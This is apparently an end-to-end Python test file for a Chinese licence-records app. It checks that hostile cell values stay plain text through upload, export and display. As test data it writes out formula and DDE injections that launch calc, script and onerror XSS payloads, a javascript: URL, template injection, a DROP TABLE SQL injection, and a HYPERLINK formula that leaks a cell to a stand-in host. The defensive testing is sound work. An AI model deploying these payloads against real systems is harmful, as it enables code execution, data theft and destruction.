"""Cells that would run somewhere: kept as text, shown as text, given back so that Excel does not run them."""

from typing import Any

import xlrd
from playwright.async_api import Dialog, expect

from tests.e2e.api import licence, workbook
from tests.e2e.browser import SIDEWAYS, Screen

LONG = "文" * 32_767  # what a cell can hold
HALF, PLACE = "\ud83d", "\uf8f7"  # half of a character, and what stands in its place until the file is written
KEPT = {
    "formula": "=cmd|' /C calc'!A0",
    "function": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.invalid/?"&A1,"点这里")',
    "script": "<script>window.ran=1</script><img src=x onerror=window.ran=1>",
    "address": "javascript:window.ran=1",
    "template": "{{constructor.constructor('window.ran=1')()}}${window.ran=1}",
    "sql": "x'); DROP TABLE record; --",
}
# Signs nobody sees, or that turn the text around: dropped, kept or a new line; the words around them keep their order.
ODD = {
    "emoji": "营业执照📄👨‍👩‍👧",
    "turned around": "准予\u202e经营\u202c食品",
    "invisible": "准\u200b予\u2060经\ufeff营",
    "control": "准予\x00\x01\x07\x1b经营",
    "tab before": "\t=cmd|' /C calc'!A0",
    "return before": "\r=cmd|' /C calc'!A1",
    "line separators": "准予\u2028经\x85营\u2029食品",
}


def words(text: str) -> str:
    return "".join(character for character in text if character.isprintable())


async def test_hostile_cells_stay_text(screen: Screen) -> None:
    api = await screen.api()
    definition = await screen.definition("xzxk_fr")
    texts = {**KEPT, **ODD}
    rows = [licence(number, XK_NR=text, XK_XMMC=text[:60]) for number, text in enumerate(texts.values(), 1)]
    rows += [licence(80, XK_NR=KEPT["formula"], XK_XDR=KEPT["script"], XK_JDRQ="2018-02-30"), licence(81, XK_NR=LONG)]
    upload = await api.upload("xzxk_fr", workbook(definition, rows))
    refused = (await api.get(f"/uploads/{upload['id']}/rows?outcome=rejected"))["items"]
    bad_date, too_long = refused
    assert [row["row"] for row in refused] == [3 + len(texts), 4 + len(texts)]
    assert [problem["code"] for problem in too_long["problems"]] == ["too_long"]
    assert len(too_long["problems"][0]["message"]) < 200, "it is told, not repeated"
    assert bad_date["values"]["XK_NR"] == KEPT["formula"]
    listed = await api.get("/records?dataset=xzxk_fr&size=100")
    stored = {record["values"]["XK_WSH"]: record["values"]["XK_NR"] for record in listed["items"]}
    for number, (what, text) in enumerate(texts.items(), 1):
        kept = stored[licence(number)["XK_WSH"]]
        assert words(kept) == words(text) if what in ODD else kept == text, what
        assert "\x00" not in kept

    for path, expected in (
        ("/records/export.xls?dataset=xzxk_fr", set(KEPT.values())),
        (f"/uploads/{upload['id']}/rejected.xls", {KEPT["formula"], KEPT["script"]}),
    ):
        cells = cells_of((await api.call("GET", path)).body)
        held = {str(cell.value) for cell in cells if cell.ctype == xlrd.XL_CELL_TEXT}
        assert expected <= held, path
        # A label record is never calculated; a formula would come back as its result.
        assert not [
            cell for cell in cells if cell.ctype in {xlrd.XL_CELL_NUMBER, xlrd.XL_CELL_ERROR} and cell.value != ""
        ]

    half = b'{"dataset": "xzxk_fr", "values": {"XK_NR": "\\ud83d"}}'
    answer = await api.call("POST", "/records/check", data=half, **{"Content-Type": "application/json"})
    assert answer.status in {200, 422}, answer

    page = await screen.page("reporter", "/licences?size=50")
    asked: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        asked.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", dismiss)
    await expect(page.get_by_text(KEPT["script"][:60]).first).to_be_visible()
    script = next(one for one in listed["items"] if one["values"]["XK_NR"] == KEPT["script"])
    for path in (f"/records/{script['id']}", f"/uploads/{upload['id']}/failures", f"/public/records/{script['id']}"):
        await page.goto(path)
        await expect(page.get_by_text("<script>").first).to_be_visible()
        assert await page.evaluate("typeof window.ran") == "undefined", path
        assert await page.locator("img[src='x']").count() == 0
    assert asked == []


async def test_half_a_character_and_a_full_cell_are_kept_shown_and_given_back(screen: Screen) -> None:
    """The half as the replacement character: nothing that keeps or shows text can hold it alone."""
    definition = await screen.definition("xzxk_fr")
    fields = [{**one, "max_length": 32_767} if one["code"] == "XK_NR" else one for one in definition["fields"]]
    draft = {
        **definition,
        "code": f"full_{screen.department}",
        "name": "满格演练",
        "fields": fields,
        "departments": [screen.department],
    }
    draft.pop("version")
    await screen.admin.post("/datasets", draft)
    api = await screen.api()
    texts = [f"准予{PLACE}经营", f"准予经营{PLACE}", LONG, f"{LONG[1:]}{PLACE}"]
    rows = [licence(number, XK_NR=text) for number, text in enumerate(texts, 1)]
    rows.append(licence(5, XK_NR=texts[0], XK_JDRQ="2018-02-30"))
    content, place = workbook(draft, rows), PLACE.encode("utf-16-le")
    assert content.count(place) == 3, "each text once in the table of strings"
    content = content.replace(place, HALF.encode("utf-16-le", "surrogatepass"))  # xlwt writes whole characters only
    upload = await api.upload(draft["code"], content)
    assert upload["counts"] | {"inserted": 4, "rejected": 1} == upload["counts"], upload

    kept = [text.replace(PLACE, "\ufffd") for text in texts]
    [refused] = (await api.get(f"/uploads/{upload['id']}/rows?outcome=rejected"))["items"]
    assert refused["values"]["XK_NR"] == kept[0]
    listed = (await api.get(f"/records?dataset={draft['code']}"))["items"]
    stored = {record["values"]["XK_WSH"]: record for record in listed}
    records = [stored[row["XK_WSH"]] for row in rows[:4]]
    assert [record["values"]["XK_NR"] for record in records] == kept
    for path, expected in (
        (f"/records/export.xls?dataset={draft['code']}", set(kept)),
        (f"/uploads/{upload['id']}/rejected.xls", {kept[0]}),
    ):
        held = {cell.value for cell in cells_of((await api.call("GET", path)).body)}
        assert expected <= held, path

    page = await screen.page("reporter")
    for record, text in zip(records, kept, strict=True):
        for path in (f"/records/{record['id']}", f"/public/records/{record['id']}"):
            await page.goto(path)
            await expect(page.get_by_text(text, exact=True).first).to_be_visible()
            assert not await page.evaluate(SIDEWAYS), path


def cells_of(content: bytes) -> list[Any]:
    book = xlrd.open_workbook(file_contents=content)
    return [cell for sheet in book.sheets()[:1] for row in sheet.get_rows() for cell in row]
